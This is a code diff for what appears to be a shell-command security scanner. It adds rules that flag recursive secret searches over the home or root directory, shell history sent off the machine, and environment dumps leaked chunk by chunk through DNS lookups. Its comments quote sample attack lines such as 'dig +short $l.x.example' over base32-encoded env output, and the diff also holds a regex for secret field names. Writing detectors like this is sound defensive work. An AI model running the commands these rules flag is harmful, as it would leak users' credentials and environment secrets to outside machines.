@@ -11,6 +11,8 @@ import { commandsIn } from "./ast_scan.ts";
 import {
   credentialOf,
   isEnvFile,
+  isHistoryFile,
+  isUnder,
   PATH_ONLY_PROGRAMS,
   resolvePath,
 } from "./paths.ts";
@@ -26,6 +28,7 @@ import {
   urlHost,
 } from "./secret_env.ts";
 import { credentialPrinted } from "./token_printers.ts";
+import { dumpVarIn } from "./dump_vars.ts";
 
 /** Programs that use credentials without printing them (ssh -i key, kubectl...) or only look at paths. */
 const KEY_USERS = new Set([
@@ -245,6 +248,38 @@ function searchPatterns(u: Unit): Set<Arg> {
   return out;
 }
 
+/** Patterns that name a secret's field or marker (a search for them prints the secrets). */
+const SECRET_FIELD =
+  /secret|passw|token|api[_-]?key|access[_-]?key|private[ _-]?key|credential|BEGIN [A-Z ]{0,20}PRIVATE|x-api-key|authorization|bearer/i;
+
+/**
+ * Whether a recursive search for a secret's field name covers the whole home
+ * or the whole system (`grep -r aws_secret_access_key ~`, `rg -n password /`):
+ * every credential file is read and its secret lines are printed.
+ */
+function searchesSecretsEverywhere(
+  u: Unit,
+  patterns: Set<Arg>,
+  st: State,
+): boolean {
+  const texts = u.args.map((a) => a.text);
+  const recursive = u.name !== "grep" && u.name !== "egrep" &&
+      u.name !== "fgrep" && u.name !== "zgrep" ||
+    texts.some((t) =>
+      /^-[a-zA-Z]{0,8}[rR][a-zA-Z]{0,8}$/.test(t) || t === "--recursive" ||
+      t === "--dereference-recursive" || t === "--directories=recurse"
+    );
+  if (!recursive) return false;
+  if (![...patterns].some((a) => SECRET_FIELD.test(a.text))) return false;
+  const home = st.ctx.home;
+  return u.args.some((a) => {
+    if (patterns.has(a) || !a.known || a.text.startsWith("-")) return false;
+    const p = resolvePath(a.text, st.cwd, st.ctx.home);
+    return p === home || p === "/" || p === "/home" || p === "/Users" ||
+      p === "/root";
+  });
+}
+
 /** Container volume sources: `-v SRC:DST`, `--volume=SRC:DST`, `--mount …,source=SRC`. */
 function mountSources(u: Unit): string[] {
   const out: string[] = [];
@@ -406,6 +441,14 @@ export function analyzeCredentialReads(u: Unit, st: State, pipe?: Pipe): void {
   }
   if (!u.name || KEY_USERS.has(u.name) || SINKS.has(u.name)) return;
   const patterns = SEARCHERS.has(u.name) ? searchPatterns(u) : null;
+  if (patterns && searchesSecretsEverywhere(u, patterns, st)) {
+    m.add(
+      "secrets_file_read",
+      `${u.name} searches every file under ${st.ctx.home} or / for secret fields: each match prints the secret itself (~/.aws/credentials, ~/.netrc, tokens in dotfiles) into the session transcript`,
+      "search the workspace instead (grep -rn NAME .), or check one named, non-secret file",
+    );
+    return;
+  }
   for (const a of u.args) {
     if (!a.known || patterns?.has(a)) continue;
     for (const cand of candidates(a)) {
@@ -579,6 +622,12 @@ function judgeSent(path: string, st: State, how: string): void {
       `${how} sends ${p}, a copy of credentials, to another machine`,
       SAFE_KEY,
     );
+  } else if (isHistoryFile(p) && isUnder(p, st.ctx.home)) {
+    m.add(
+      "credential_exfiltration",
+      `${how} sends the shell history ${p} (every command typed, with the passwords and tokens given on command lines) to another machine`,
+      "never send shell history off the machine",
+    );
   } else if (isEnvFile(p)) {
     m.add(
       "env_file_exfiltration",
@@ -654,6 +703,19 @@ function secretVarsOf(u: Unit): string[] {
 export function analyzeSinks(u: Unit, st: State, pipe: Pipe): void {
   const m = st.out.matches;
   // dig $(echo $TOKEN).x.example: the secret is the name looked up.
+  if (DNS_TOOLS.has(u.name) || SINKS.has(u.name)) {
+    // dig +short $l.x.example inside `for l in $(env | base32)`: the dump goes out a chunk at a time.
+    const held = u.args.map((a) => dumpVarIn(a.text, st)).find((x) => x);
+    if (held) {
+      m.add(
+        "env_exfiltration",
+        `${u.name} sends $${held[0]}, which holds the output of ${
+          held[1]
+        } (every environment variable, secrets included), to another machine`,
+        "never send environment variables off the machine",
+      );
+    }
+  }
   if (DNS_TOOLS.has(u.name)) {
     const name = exfiltratedSecret(secretVarsOf(u), null);
     if (name) {
